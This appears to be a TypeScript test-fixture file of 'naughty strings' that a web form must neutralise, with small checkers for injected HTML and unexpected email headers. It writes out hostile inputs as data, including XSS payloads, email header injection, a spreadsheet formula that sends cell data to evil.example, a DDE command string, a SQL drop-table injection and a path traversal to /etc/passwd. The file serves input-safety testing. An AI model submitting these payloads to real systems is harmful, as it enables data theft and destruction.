/** The kinds of the Big List of Naughty Strings. None may run, break out, or bring the site down. */
export const naughty: Record<string, string> = {
  html: `"'><x-naughty onclick="naughty()"></textarea></script><script>naughty()</script><!--`,
  attribute: `" autofocus onfocus="naughty()" x="`,
  entity: "&lt;x-naughty&gt; &amp;amp; &#60;x-naughty&#62;",
  "script in an address": "javascript:naughty()",
  "control characters":
    "a\u0001\u0002\u0007\u0008\u000B\u000C\u000E\u001B[2J\u001F\u007F\u0085\u009Bz",
  NUL: "before\u0000after",
  "line ends": "one\rtwo\nthree\r\nfour\u2028five\u2029six",
  emoji: "👩🏽‍⚕️👨‍👩‍👧‍👦🇨🇦 🏳️‍🌈",
  "right to left": "مرحبا \u202Ecod.exe\u202C שלום \u2067abc\u2069",
  "zero width": "a\u200B\u200C\u200D\u2060\uFEFFb",
  "only zero width": "\u200B\u200D",
  zalgo: "T̸̨̛̗̫̈́̀o̴͚͝n̵̰̈y̶̢̽ ﷽ Ω≈ç√∫˜µ ",
  "five thousand characters": "x".repeat(5_000),
  "header injection": "Ada\r\nBcc: victim@evil.example\r\n\r\n<x-naughty>",
  "address list": "ada@example.com, victim@evil.example",
  "address with a header": "ada@example.com\nCc: victim@evil.example",
  "address in a name": '"Ada" <victim@evil.example>',
  formula: `=HYPERLINK("http://evil.example?"&A1,"open")`,
  "formula by plus": "+1+cmd|' /C calc'!A0",
  "formula by minus": "-1+1",
  "formula by at": "@SUM(1+1)",
  "formula after a tab": "\t=1+1",
  "formula after a line end": "\r\n=1+1",
  "formula after nothing visible": "\u0000\u200B =1+1",
  "formula in full width": "＝1+1",
  sql: "'; drop table submissions; --",
  template: "{{phone}} ${7*7} #{7*7} <%= 7*7 %> %s%n%d",
  path: "../../../../etc/passwd%00",
  "object keys": "__proto__",
  numbers: "NaN",
};

/** What in a page or a letter would run, or stand there as an element, that a visitor typed. */
export function harmIn(page: string): string | undefined {
  const harms = [
    /<x-naughty/i,
    /<script[^>]*>naughty/i,
    /[^\\]" autofocus onfocus="naughty/i,
    /(href|src|action)="?javascript:/i,
  ];
  return harms.map((harm) => harm.exec(page)?.[0]).find((found) => found !== undefined);
}

const usualHeaders = ["from", "to", "reply-to", "subject", "message-id", "date", "mime-version"];

/** Header lines of a letter that the site does not write, or that stand there twice. */
export function unusualHeaders(lines: readonly { key: string }[]): string[] {
  const keys = lines.map(({ key }) => key);
  return keys.filter(
    (key, place) =>
      keys.indexOf(key) !== place ||
      !(usualHeaders.includes(key) || /^(content-|auto-submitted|list-unsubscribe|x-)/.test(key)),
  );
}
